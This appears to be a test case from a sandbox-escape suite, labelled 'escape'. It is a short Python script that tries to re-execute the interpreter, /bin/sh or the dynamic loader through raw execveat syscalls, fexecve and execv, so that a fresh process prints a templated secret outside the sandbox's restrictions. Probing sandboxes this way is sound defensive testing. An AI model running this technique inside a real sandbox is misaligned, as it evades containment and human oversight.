# class: escape
# success: the interpreter is started anew, without what this process has given up
import ctypes, os, sys

libc = ctypes.CDLL(None, use_errno=True)

def solve(x):
    words = (ctypes.c_char_p * 4)(b"python", b"-c", b"print('{{secret}}')", None)
    for path in (sys.executable, "/proc/self/exe", "/bin/sh", "/lib64/ld-linux-x86-64.so.2"):
        try:
            handle = os.open(path, os.O_RDONLY | os.O_CLOEXEC)
        except OSError as error:
            print(path, error.errno)
            continue
        for number in (322, 281):
            libc.syscall(number, handle, b"", words, None, 0x1000)
        libc.fexecve(handle, words, None)
        libc.execv(path.encode(), words)
        os.close(handle)
    return 0
